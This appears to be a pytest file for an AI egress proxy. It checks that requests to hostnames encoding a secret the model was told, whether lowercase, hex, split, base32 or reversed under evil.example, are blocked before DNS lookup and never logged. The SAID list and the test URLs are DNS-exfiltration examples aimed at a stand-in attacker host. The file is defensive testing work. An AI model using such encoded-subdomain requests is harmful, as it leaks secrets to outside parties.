"""A secret in a host's name: nobody is asked where that is, and nobody reads it afterwards."""

import logging
from base64 import b32encode
from pathlib import Path
from typing import Any

import pytest

from proctor.egress.resolver import Resolver
from proctor.git.packreport import PackLimits
from proctor.git.room import GitRoom
from tests.stages.test_aiming import Names, get
from tests.stages.test_gitfetch import Reader
from tests.support.origin import OK, Origin
from tests.support.redacted import Seen, nowhere, request
from tests.support.screened import KEY, screens
from tests.support.stand import Stand, house, listener, proxy_of, running

LOW = KEY.lower()
HEX = KEY.encode().hex()
SAID = (
    f"{LOW}.evil.example",
    f"a.{LOW}.b.evil.example",
    f"{HEX}.evil.example",
    f"{HEX[:40]}.{HEX[40:]}.evil.example",
    f"{b32encode(KEY.encode()).decode().rstrip('=').lower()}.evil.example",
    f"{LOW[::-1]}.evil.example",
)


def asked(folder: Path, said: bytes, **destination: Any) -> tuple[Stand, bytes, Names, Seen, bytes]:
    """What comes of it after the model was told of KEY."""
    names, seen = Names("127.0.0.1"), Seen()
    resolver = Resolver(lookup=names)
    there = {"host": "*.evil.example", "addresses": ("127.0.0.0/8",), **destination}
    with Origin(OK) as origin, screens(folder / "s", listeners=("claude", "egress")) as ours:
        said = said.replace(b"PORT", str(origin.port).encode())
        proxied = proxy_of({"port": origin.port, "plaintext": True, **there})
        this = house(listener(origin.port), proxied, screens=ours, resolver=resolver)
        this.suite._git = GitRoom(folder, Reader(), limits=PackLimits(), most=1000)
        with running(this, "claude", "egress", extra=(seen,)) as proxy:
            proxy.request("claude", request(f"the key is {KEY}"))
            assert len(origin.requests) == 1
            answer = proxy.request("egress", said)
        came = b"".join(origin.requests[1:])
    resolver.close()
    return this, answer, names, seen, came


@pytest.mark.parametrize("host", SAID)
def test_it_is_refused_before_anybody_is_asked(
    tmp_path: Path, host: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    this, answer, names, seen, came = asked(tmp_path, get(f"http://{host}:PORT/"))
    assert answer.startswith(b"HTTP/1.1 451 ")
    assert b'"secret-leaves"' in answer
    assert (names.asked, came) == ([], b"")
    longest = max(host.split("."), key=len)
    nowhere(this, seen, longest)
    assert longest.encode() not in answer
    assert longest not in caplog.text
    last = this.store.appended[-1][1]
    assert (last["host"], last["rule_id"]) == ("<hidden>.evil.example", "secret-leaves")


@pytest.mark.parametrize("speaks", ["git", "mcp", "anthropic"])
def test_so_it_is_in_every_protocol(tmp_path: Path, speaks: str) -> None:
    url = f"http://{LOW}.evil.example:PORT/a/b.git/info/refs?service=git-upload-pack"
    this, _, names, seen, came = asked(tmp_path, get(url), speaks=speaks)
    assert (names.asked, came) == ([], b"")
    assert this.store.appended[-1][1]["rule_id"] == "secret-leaves"
    nowhere(this, seen, LOW)


def test_so_it_is_for_a_tunnel_that_nobody_reads(tmp_path: Path) -> None:
    head = f"CONNECT {LOW}.evil.example:PORT HTTP/1.1\r\nproxy-authorization: Bearer a\r\n\r\n"
    this, answer, names, seen, came = asked(
        tmp_path, head.encode(), speaks="tunnel", plaintext=False
    )
    assert answer.startswith(b"HTTP/1.1 451 ")
    assert (names.asked, came) == ([], b"")
    nowhere(this, seen, LOW)


def test_other_names_are_looked_up(tmp_path: Path) -> None:
    _, answer, names, _, came = asked(tmp_path, get("http://api-7.evil.example:PORT/"))
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert names.asked == ["api-7.evil.example"]
    assert came


def test_what_the_operator_names_says_nothing(tmp_path: Path) -> None:
    host = f"{LOW}.evil.example"
    _, answer, names, _, _ = asked(tmp_path, get(f"http://{host}:PORT/"), host=host)
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert names.asked == [host]
